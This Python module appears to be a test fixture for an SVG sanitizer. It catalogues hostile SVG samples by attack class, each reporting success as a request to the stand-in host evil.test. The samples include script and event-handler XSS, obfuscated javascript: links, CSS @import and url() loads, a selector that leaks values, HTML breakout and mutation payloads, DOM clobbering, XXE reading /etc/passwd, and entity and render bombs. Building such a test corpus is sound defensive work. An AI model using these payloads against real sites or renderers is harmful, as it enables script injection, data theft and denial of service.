"""One case or more for each class of attack. Every success of one shows as a request to EVIL.

A script that runs asks for an image from there; a style or a reference that reaches outside
does so by itself; a navigation goes there.
"""

from typing import Final

from generation.svg.policy import words

EVIL: Final = "http://evil.test"
JS: Final = f"void ((new Image).src='{EVIL}/js')"
_SVG: Final = "http://www.w3.org/2000/svg"
_XLINK: Final = "http://www.w3.org/1999/xlink"
_XHTML: Final = "http://www.w3.org/1999/xhtml"


def svg(body: str, attributes: str = "") -> str:
    return (
        f'<svg xmlns="{_SVG}" xmlns:xlink="{_XLINK}" viewBox="0 0 90 90" width="90" height="90" '
        f'{attributes}><rect width="30" height="30" fill="teal"/>{body}</svg>'
    )


def html(body: str) -> str:
    return (
        f'<foreignObject width="90" height="90"><div xmlns="{_XHTML}">{body}</div></foreignObject>'
    )


SCRIPTS: Final = {
    "script": svg(f"<script>{JS}</script>"),
    "script in CDATA": svg(f"<script><![CDATA[{JS}]]></script>"),
    "script with source": svg(f'<script src="{EVIL}/a.js"/>'),
    "script with href": svg(f'<script href="{EVIL}/a.js"/><script xlink:href="{EVIL}/b.js"/>'),
    "script with data": svg(f'<script href="data:text/javascript,{JS}"/>'),
    "script in capitals": svg(f"<SCRIPT>{JS}</SCRIPT><sCrIpT>{JS}</sCrIpT>"),
    "script by prefix": f'<s:svg xmlns:s="{_SVG}" viewBox="0 0 9 9"><s:script>{JS}</s:script>'
    '<s:rect width="9" height="9"/></s:svg>',
    "script of XHTML": svg(f'<script xmlns="{_XHTML}">{JS}</script>'),
    "script of XHTML by prefix": svg(f'<h:script xmlns:h="{_XHTML}">{JS}</h:script>'),
    "script in a script": svg(f"<scr<script>ipt>{JS}</scr</script>ipt>"),
    "script unclosed": f'<svg xmlns="{_SVG}"><rect width="9" height="9"/><script>{JS}',
    "script in defs": svg(f"<defs><g><script>{JS}</script></g></defs>"),
    "script in a title": svg(f"<title><script>{JS}</script></title>"),
    "script in a desc as HTML": svg(f"<desc><script xmlns='{_XHTML}'>{JS}</script></desc>"),
    "script split by a comment": svg(f"<scr<!-- -->ipt>{JS}</script>"),
    "script split by NUL": svg(f"<scr\x00ipt>{JS}</scr\x00ipt>"),
    "handler element": svg(
        f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{JS}</handler>'
    ),
    "listener element": svg(
        f'<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" '
        f'handler="javascript:{JS}"/>'
    ),
}
HANDLERS: Final = {
    "onload": svg("", f'onload="{JS}"'),
    "onload of a shape": svg(f'<rect onload="{JS}" width="9" height="9"/>'),
    "onclick": svg(f'<rect onclick="{JS}" width="90" height="90"/>'),
    "onmouseover": svg(f'<g onmouseover="{JS}"><rect width="90" height="90"/></g>'),
    "onfocus with focus": svg(f'<g tabindex="0" autofocus="" onfocus="{JS}"/>'),
    "onbegin": svg(f'<animate onbegin="{JS}" attributeName="x" dur="1s"/>'),
    "onend": svg(f'<set onend="{JS}" attributeName="x" to="1" dur="0.01s"/>'),
    "onerror of an image": svg(f'<image href="x:" onerror="{JS}"/>'),
    "handler in capitals": svg(f'<rect ONCLICK="{JS}" oNmOuSeOvEr="{JS}" width="90" height="90"/>'),
    "handler in a namespace": svg(f'<rect xmlns:a="b" a:onclick="{JS}" svg:onload="{JS}"/>'),
    "handler of a transition": svg(f'<rect ontransitionend="{JS}" onanimationstart="{JS}"/>'),
    "handler unquoted": f"<svg onload={JS}><rect width=9 height=9>",
    "handler after a slash": f"<svg/onload={JS}><rect width=9 height=9 /></svg>",
    "handler behind a line feed": svg("", f'\nonload\n=\n"{JS}"'),
    "handler behind a tab entity": svg(f'<rect width="9" &#9;onclick="{JS}"/>'),
    "handler in an open quote": f'<svg a="><rect width="9" b="/onload={JS} "><rect/></svg>',
}
LINKS: Final = {
    "link with script": svg(f'<a href="javascript:{JS}"><rect width="90" height="90"/></a>'),
    "xlink with script": svg(f'<a xlink:href="javascript:{JS}"><rect width="90" height="90"/></a>'),
    "script split by entities": svg(
        f'<a href="&#106;avascript&colon;{JS}"><rect width="90" height="90"/></a>'
    ),
    "script split by white space": svg(
        f'<a href=" java&#10;script:{JS}"><rect width="90" height="90"/></a>'
    ),
    "script split by controls": svg(
        f'<a href="\x01java\x02script:{JS}"><rect width="90" height="90"/></a>'
    ),
    "data link": svg(
        f'<a href="data:text/html,&lt;script>{JS}&lt;/script>"><rect width="90" height="90"/></a>'
    ),
    "link outside": svg(f'<a href="{EVIL}/go" target="_top"><rect width="90" height="90"/></a>'),
    "link in a text": svg(f'<text y="60"><a href="{EVIL}/go">words</a></text>'),
    "link of MathML": svg(
        f'<m:math xmlns:m="http://www.w3.org/1998/Math/MathML" href="{EVIL}/go">x</m:math>'
    ),
    "script split by named entities": svg(
        f'<a href="java&Tab;scr&NewLine;ipt&colon;{JS}"><rect width="90" height="90"/></a>'
    ),
    "link with spaces before": svg(
        f'<a href="&#1;&#32; javascript:{JS}"><rect width="90" height="90"/></a>'
    ),
    "xlink on everything": svg(
        "".join(
            f'<{name} xlink:href="{EVIL}/{name}" href="javascript:{JS}" width="9" height="9"/>'
            for name in words("rect g path text mask filter marker clipPath pattern stop symbol")
        )
    ),
    "link by another prefix": svg(
        f'<a xmlns:x="{_XLINK}" x:href="javascript:{JS}"><rect width="90" height="90"/></a>'
    ),
    "animated link": svg(
        f'<a><animate attributeName="href" values="javascript:{JS}"/>'
        '<rect width="90" height="90"/></a>'
    ),
    "set link": svg(
        f'<a id="l"><rect width="90" height="90"/></a><set href="#l" attributeName="href" '
        f'to="javascript:{JS}"/>'
    ),
    "set handler": svg(f'<set attributeName="onclick" to="{JS}"/>'),
}
LOADS: Final = {
    "image": svg(f'<image href="{EVIL}/a.png" width="9" height="9"/>'),
    "image by xlink": svg(f'<image xlink:href="{EVIL}/a.png" width="9" height="9"/>'),
    "image without scheme": svg('<image href="//evil.test/a.png" width="9" height="9"/>'),
    "image of XHTML": svg(f'<img xmlns="{_XHTML}" src="{EVIL}/a.png"/>'),
    "feImage": svg(
        f'<filter id="f"><feImage href="{EVIL}/a.png"/></filter><g filter="url(#f)"><rect/></g>'
    ),
    "use outside": svg(f'<use href="{EVIL}/a.svg#a"/><use xlink:href="{EVIL}/b.svg#a"/>'),
    "use of data": svg(f'<use href="data:image/svg+xml,&lt;svg id=&quot;x&quot;/>#x"/>{JS}'),
    "gradient outside": svg(f'<linearGradient id="g" href="{EVIL}/a.svg#g"/><g fill="url(#g)"/>'),
    "fill outside": svg(f'<rect fill="url({EVIL}/a.svg#g)" width="90" height="90"/>'),
    "fill quoted outside": svg(
        f"<rect fill=\"url('{EVIL}/a.svg#g') red\" width='90' height='90'/>"
    ),
    "fill with an escape": svg(
        f'<rect style="fill:u\\72l({EVIL}/a.svg#g)" width="90" height="90"/>'
    ),
    "fill unclosed": svg(f'<rect fill="url({EVIL}/a.svg#g" width="90" height="90"/>'),
    "cursor": svg(f'<rect cursor="url({EVIL}/c.png),auto" width="90" height="90"/>'),
    "filter outside": svg(f'<rect filter="url({EVIL}/f.svg#f)" width="90" height="90"/>'),
    "mask outside": svg(f'<rect mask="url({EVIL}/m.svg#m)" width="90" height="90"/>'),
    "mask-image": svg(f'<rect style="mask-image:url({EVIL}/m.png)" width="90" height="90"/>'),
    "clip outside": svg(f'<rect clip-path="url({EVIL}/c.svg#c)" width="90" height="90"/>'),
    "marker outside": svg(f'<path marker-end="url({EVIL}/m.svg#m)" d="M0 0L9 9"/>'),
    "shorthand marker": svg(f'<path style="marker:url({EVIL}/m.svg#m)" d="M0 0L9 9"/>'),
    "fill in capitals": svg(f'<rect fill="URL({EVIL}/a.svg#g)" width="90" height="90"/>'),
    "fill behind spaces": svg(f'<rect fill=" url( \n{EVIL}/a.svg#g )" width="90" height="90"/>'),
    "fill with NUL": svg(f'<rect style="fill:u\\0 rl({EVIL}/a)" fill="url(\\0{EVIL}/b)"/>'),
    "attribute with an escape": svg(f'<rect fill="\\75 rl({EVIL}/a#g)" mask="u\\72l({EVIL}/b)"/>'),
    "fill as a fallback": svg(f'<rect fill="url(#x) url({EVIL}/a.svg#g)" width="9" height="9"/>'),
    "reference that leaves": svg(f'<use href="#a/../{EVIL}/a.svg#b"/><g fill="url(#a){EVIL})"/>'),
    "clip by a function": svg(f"<rect clip-path=\"path('M0 0) url({EVIL}/a)\" width='9'/>"),
    "filter by a function": svg(f'<rect filter="blur(1px) url({EVIL}/a#f)" width="9"/>'),
    "shape-outside": svg(f'<rect style="shape-outside:url({EVIL}/a);offset-path:url({EVIL}/b)"/>'),
    "base": svg(f'<rect xml:base="{EVIL}/" fill="url(a.svg#g)" width="9" height="9"/>'),
    "XInclude": svg(f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{EVIL}/a.xml"/>'),
    "style sheet instruction": f'<?xml-stylesheet href="{EVIL}/a.css"?>' + svg(""),
    "style sheet instruction inside": svg(f'<?xml-stylesheet href="{EVIL}/a.css"?>'),
    "style sheet link": svg(f'<link xmlns="{_XHTML}" rel="stylesheet" href="{EVIL}/a.css"/>'),
    "external colour profile": svg(f'<color-profile name="x" xlink:href="{EVIL}/a.icc"/>'),
    "font": svg(
        f'<font-face><font-face-src><font-face-uri href="{EVIL}/f"/></font-face-src></font-face>'
    ),
    "video": svg(html(f'<video src="{EVIL}/v" autoplay=""></video>')),
    "text path outside": svg(f'<text><textPath href="{EVIL}/p.svg#p">words</textPath></text>'),
}
STYLES: Final = {
    "import": svg(f'<style>@import "{EVIL}/a.css";</style>'),
    "import by url": svg(f"<style>@import url({EVIL}/a.css);</style>"),
    "import with an escape": svg(f'<style>@\\69mport "{EVIL}/a.css";</style>'),
    "import in CDATA": svg(f"<style><![CDATA[@import '{EVIL}/a.css';]]></style>"),
    "font-face": svg(
        f"<style>@font-face{{font-family:x;src:url({EVIL}/f)}}text{{font-family:x}}</style>"
        "<text y='50'>words</text>"
    ),
    "background": svg("", f'style="background:url({EVIL}/a.png)"'),
    "background rule": svg(f"<style>svg{{background-image:url('{EVIL}/a.png')}}</style>"),
    "image-set": svg("", f"style=\"background:image-set('{EVIL}/a.png' 1x)\""),
    "cross-fade": svg(
        "", f'style="background:-webkit-cross-fade(url({EVIL}/a),url({EVIL}/b),50%)"'
    ),
    "list-style": svg(f'<g style="display:list-item;list-style:url({EVIL}/a.png)"><rect/></g>'),
    "content": svg(f"<style>rect::before{{content:url({EVIL}/a.png)}}</style>"),
    "src function": svg("", f"style=\"background:src('{EVIL}/a.png')\""),
    "variable": svg("", f'style="--a:url({EVIL}/a.png);background:var(--a)"'),
    "variable joined": svg("", f"style=\"--a:'{EVIL}/a.png';background:image-set(var(--a) 1x)\""),
    "escape of url": svg("", f'style="background:\\000075rl({EVIL}/a.png)"'),
    "escape in a name": svg("", f'style="b\\61 ckground:url({EVIL}/a.png)"'),
    "NUL in a style": svg(
        "", f'style="background\\0:url({EVIL}/a.png);b\x00ackground:url({EVIL}/b)"'
    ),
    "string in a style": svg("", f'style="fill:red;background:\'a;background:url({EVIL}/a)"'),
    "nested rules": svg(
        f"<style>svg{{&amp; rect{{fill:url({EVIL}/a#b)}} @media all{{p{{color:red}}}}}}</style>"
    ),
    "namespace rule": svg(
        "<style>@namespace h url(http://www.w3.org/1999/xhtml);h|p{color:red!important}</style>"
    ),
    "charset rule": svg(f"<style>@charset 'utf-7';@import+ACI-{EVIL}/a.css+ACIAOw-</style>"),
    "host rule": svg("<style>:root,:host,html,body,:is(p){color:red!important}</style>"),
    "animation by style": svg("", 'style="animation:x 1s;transition:all 1s;color:red"'),
    "comment in url": svg("", f'style="background:u/**/rl({EVIL}/a.png)"'),
    "selector that leaks": svg(
        f'<style>rect[width^="3"]{{fill:url({EVIL}/leak#a)}} '
        f'input[value^="s"]{{background:url({EVIL}/leak)}}</style>'
    ),
    "expression": svg("", f'style="width:expression({JS});behavior:url({EVIL}/a.htc)"'),
    "binding": svg("", f'style="-moz-binding:url({EVIL}/a.xml#x)"'),
    "end of style in CDATA": svg(f"<style><![CDATA[</style><img src='{EVIL}/a.png'>]]></style>"),
    "style of the page": svg(
        "<style>*{color:red!important;background:red!important}body{display:none}"
        ".probe{font-size:99px!important}#probe{border:9px solid red}</style>"
    ),
    "style of the page by media": svg("<style>@media all{p{color:red!important}}</style>"),
    "style of the page by layer": svg(
        "<style>@layer a{p{color:red!important}}@supports (a:b){p{color:red}}</style>"
    ),
    "style after a stray brace": svg("<style>}p{color:red!important}</style>"),
    "style of XHTML": svg(f'<style xmlns="{_XHTML}">p{{color:red!important}}</style>'),
    "style by keyframes": svg(
        "<style>@keyframes x{from{color:red}to{color:red}}p{animation:x 9s}</style>"
    ),
}
BOXES: Final = {
    "overlay": svg("", 'style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9"'),
    "overflow": svg('<circle r="900" fill="red"/>', 'overflow="visible"'),
    "overflow by style": svg('<circle r="900" fill="red"/>', 'style="overflow:visible"'),
    "overflow by rule": svg(
        '<style>svg{overflow:visible!important}</style><circle r="900" fill="red"/>'
    ),
    "transform of the whole": svg('<circle r="90" fill="red"/>', 'transform="translate(90 0)"'),
    "shadow of the whole": svg("", 'style="filter:drop-shadow(80px 0 0 red)"'),
    "outline": svg(
        "", 'style="outline:90px solid red;border:9px solid red;box-shadow:0 0 90px red"'
    ),
    "margin": svg("", 'style="margin:-80px;transform:scale(9)"'),
    "inner overflow": svg(
        '<svg width="9" height="9" overflow="visible"><circle r="900" fill="red"/></svg>'
    ),
    "huge stroke": svg('<path d="M0 0H1" stroke="red" stroke-width="1e9"/>'),
    "huge text": svg('<text font-size="4000" fill="red">W</text>'),
    "negative viewBox": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="-9e9 -9e9 1e-9 -1" '
    'width="90" height="90"><rect x="-9e9" y="-9e9" width="9e9" height="9e9" fill="red"/></svg>',
    "viewBox that covers nothing": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1" '
    'preserveAspectRatio="xMidYMid slice" width="90" height="9"><circle r="99" fill="red"/></svg>',
    "filter with a huge region": svg(
        '<filter id="f" x="-900%" y="-900%" width="2000%" height="2000%"><feFlood '
        'flood-color="red"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "huge shadow": svg('<rect width="9" height="9" style="filter:drop-shadow(150px 0 9px red)"/>'),
    "moved group": svg('<g transform="translate(150 0)"><rect width="90" height="90"/></g>'),
    "text that runs out": svg(f'<text x="9" y="50" fill="red" font-size="40">{"W" * 90}</text>'),
    "marker with overflow": svg(
        '<marker id="m" overflow="visible"><circle r="900" fill="red"/></marker>'
        '<path d="M0 0L9 9" marker-end="url(#m)"/>'
    ),
    "symbol with overflow": svg(
        '<symbol id="s" style="overflow:visible" viewBox="0 0 1 1"><circle r="900"/></symbol>'
        '<use href="#s" width="9" height="9"/>'
    ),
    "size by style": svg("", 'style="width:5000px;height:5000px;min-width:100vw;zoom:9;scale:9"'),
    "size in other units": svg("", "").replace('width="90"', 'width="900vw"'),
    "layers": svg("", 'style="z-index:9;position:sticky;float:left;translate:90px;rotate:45deg"'),
    "whole picture clipped": svg("", 'clip-path="path(\'M-99 -99H999V999Z\')" overflow="visible"'),
    "whole picture masked": svg(
        '<mask id="m" x="-9" y="-9" width="99" height="99"><rect fill="#fff"/></mask>',
        'mask="url(#m)" style="overflow:visible;mix-blend-mode:difference;isolation:auto"',
    ),
    "pointer": svg("", 'style="cursor:wait;pointer-events:all;position:absolute;inset:0"'),
}
BREAKOUTS: Final = {
    f"breakout by {tag}": svg(f"<{tag}><img src='x:' onerror=\"{JS}\"/></{tag}>")
    for tag in words("b p br table div span center body head html font img li h1 sup var math")
} | {
    "breakout by an end": svg(f"</svg><img src='{EVIL}/a.png'/>"),
    "breakout by an end in text": svg(f"<text>&lt;/svg>&lt;img src='{EVIL}/a.png'></text>"),
    "breakout by CDATA": svg(f"<text><![CDATA[</text></svg><img src='{EVIL}/a.png'>]]></text>"),
    "breakout by a comment": svg(f"<!-- --!><img src='{EVIL}/a.png'> -->"),
    "breakout by a desc": svg(f"<desc><img src='{EVIL}/a.png'/></desc>"),
    "breakout by text in a desc": svg(f"<desc>&lt;img src='{EVIL}/a.png'></desc>"),
    "breakout by a title": svg(f"<title><![CDATA[<img src='{EVIL}/a.png'>]]></title>"),
    "breakout by an attribute": svg(f"<g id='\"><img src={EVIL}/a.png>'/>"),
    "breakout by a label": svg("", f"aria-label='\"&gt;&lt;img src={EVIL}/a.png&gt;'"),
    "breakout by a template": svg(f"<desc><template><img src='{EVIL}/a.png'/></template></desc>"),
    "breakout by select": svg(f"<desc><select><style><img src='{EVIL}/a'></style></select></desc>"),
    "breakout by noscript": svg(
        f"<title><noscript><p title=\"</noscript><img src='{EVIL}/a.png'>\"></noscript></title>"
    ),
    "mutation by MathML": svg(
        "<desc><math><mtext><mglyph><style><!--</style>"
        f"<img src='{EVIL}/a'></mglyph></mtext></math></desc>"
    ),
    "mutation by an annotation": svg(
        f"<desc><math><annotation-xml encoding='text/html'><img src='{EVIL}/a'/></annotation-xml>"
        "</math></desc>"
    ),
    "mutation by a style in a title": svg(
        f'<title><style><!--</style><img title="--&gt;&lt;img src={EVIL}/a&gt;"/></title>'
    ),
    "mutation by a namespace": svg(
        f"<title xmlns='{_XHTML}'><img src='{EVIL}/a'/></title>"
        f"<desc>&lt;/desc>&lt;img src={EVIL}/b></desc>"
    ),
    "mutation by escapes": svg(
        f"<title>&amp;lt;img src={EVIL}/a&amp;gt;&amp;amp;lt;img src={EVIL}/b&amp;amp;gt;</title>"
    ),
    "mutation by an end in a label": svg("", f"aria-label='&lt;/svg&gt;&lt;img src={EVIL}/a&gt;'"),
    "text that HTML reads raw": svg(f"<text><![CDATA[<style><img src='{EVIL}/a'>]]></text>"),
    "foreignObject": svg(html(f"<img src='x:' onerror=\"{JS}\"/>")),
    "foreignObject in small letters": svg(f"<foreignobject><img src='{EVIL}/a'/></foreignobject>"),
    "frame": svg(html(f'<iframe src="javascript:{JS}"></iframe>')),
    "embedded": svg(html(f'<embed src="{EVIL}/a"/><object data="{EVIL}/b"></object>')),
    "refresh": svg(html(f'<meta http-equiv="refresh" content="0;url={EVIL}"/>')),
    "form": svg(html(f'<form action="{EVIL}"><input type="image" src="{EVIL}/a.png"/></form>')),
    "switch to foreignObject": svg(f"<switch>{html(f'<img src={EVIL!r}/>')}<rect/></switch>"),
}
NAMES: Final = {
    "clobbering": svg('<g id="cookie"/><g id="getElementById"/><g id="body"/><g id="location"/>'),
    "clobbering of the page": svg('<g id="probe" class="probe"/><g id="host"/>'),
    "clobbering by the whole": svg("", 'id="body" name="cookie"'),
    "clobbering by names": svg('<g id="forms" name="probe"/><text id="title" name="body">a</text>'),
    "clobbering of prototypes": svg('<g id="__proto__"/><g id="constructor"/><g id="probe&#10;"/>'),
    "names that collide": svg('<rect id="a"/><rect id="a"/>'),
}
DOCUMENT_TYPES: Final = {
    "document type": f'<!DOCTYPE svg SYSTEM "{EVIL}/a.dtd">' + svg(""),
    "attribute defaults": f'<!DOCTYPE svg [<!ATTLIST rect onclick CDATA "{JS}">]>' + svg(""),
    "entity": "<!DOCTYPE svg [<!ENTITY a '<script>1</script>'>]>" + svg("&a;"),
    "external entity": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{EVIL}/a">]>' + svg("<text>&a;</text>"),
    "file entity": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    + svg("<text>&a;</text>"),
    "parameter entity": f'<!DOCTYPE svg [<!ENTITY % a SYSTEM "{EVIL}/a"> %a;]>' + svg(""),
    "entity bomb": "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaaaa'>"
    + "".join(f"<!ENTITY a{i} '{f'&a{i - 1 or chr(0)};' * 9}'>" for i in range(1, 9))
    + "]>"
    + svg("<text>&a8;</text>"),
    "document type inside": svg(f'<!DOCTYPE x [<!ENTITY a "{JS}">]><text>&a;</text>'),
}
ENCODINGS: Final = {
    "declared UTF-16": '<?xml version="1.0" encoding="utf-16"?>' + svg(f"<script>{JS}</script>"),
    "declared UTF-7": '<?xml version="1.0" encoding="utf-7"?>' + svg("+ADw-script+AD4-"),
    "UTF-16 read as Latin-1": svg(f"<script>{JS}</script>").encode("utf-16").decode("latin-1"),
    "mark in the middle": svg(f"<scr\ufeffipt>{JS}</scr\ufeffipt>"),
    "lone surrogate": svg(f"<\ud800script>{JS}</\ud800script><text>\udfff</text>"),
    "NUL": svg(f"<rect on\x00click='{JS}' width='90' height='90'/>"),
    "full-width": svg(f"<rect ｏｎclick='{JS}'/><ｓcript>{JS}</ｓcript>"),
    "long s": svg(f"<ſcript>{JS}</ſcript><ſtyle>p{{color:red}}</ſtyle>"),
    "escaped as JSON": '{"svg": "' + svg(f"<script>{JS}</script>").replace('"', '\\"') + '"}',
    "escaped as HTML": svg(f"<script>{JS}</script>").replace("<", "&lt;"),
}
BOMBS: Final = {
    "use bomb": svg(
        '<g id="u0"><rect width="9"/></g>'
        + "".join(
            f'<g id="u{i}"><use href="#u{i - 1}"/><use href="#u{i - 1}"/></g>' for i in range(1, 31)
        )
        + '<use href="#u30"/>'
    ),
    "pattern bomb": svg(
        '<pattern id="p0" width=".01" height=".01"><rect width="9" height="9"/></pattern>'
        + "".join(
            f'<pattern id="p{i}" width=".01" height=".01"><rect width="9" height="9" '
            f'fill="url(#p{i - 1})"/><rect width="5" height="5" fill="url(#p{i - 1})"/></pattern>'
            for i in range(1, 20)
        )
        + '<rect width="90" height="90" fill="url(#p19)"/>'
    ),
    "mask circle": svg(
        '<mask id="a"><rect mask="url(#b)"/></mask><mask id="b"><rect mask="url(#a)"/></mask>'
        '<rect mask="url(#a)" width="90" height="90"/>'
    ),
    "filter bomb": svg(
        '<filter id="f" x="-5000%" y="-5000%" width="10000%" height="10000%">'
        + '<feGaussianBlur stdDeviation="9000"/><feMorphology radius="9000"/>' * 100
        + '<feTurbulence numOctaves="99999" baseFrequency=".9"/></filter>'
        + '<g filter="url(#f)"><rect width="90" height="90"/></g>' * 50
    ),
    "marker bomb": svg(
        '<marker id="m"><path d="M0 0L1 1" marker-mid="url(#m)"/></marker>'
        f'<path marker-mid="url(#m)" d="M0 0{"L1 1" * 9_000}"/>'
    ),
    "dash bomb": svg('<path stroke="red" stroke-dasharray=".00001" d="M0 0H1e9"/>' * 50),
    "huge size": svg("", 'width="1e12" height="1e12"').replace('width="90" height="90"', ""),
}
ATTACKS: Final[dict[str, str]] = (
    SCRIPTS | HANDLERS | LINKS | LOADS | STYLES | BOXES | BREAKOUTS | NAMES
    | DOCUMENT_TYPES | ENCODINGS | BOMBS
)  # fmt: skip
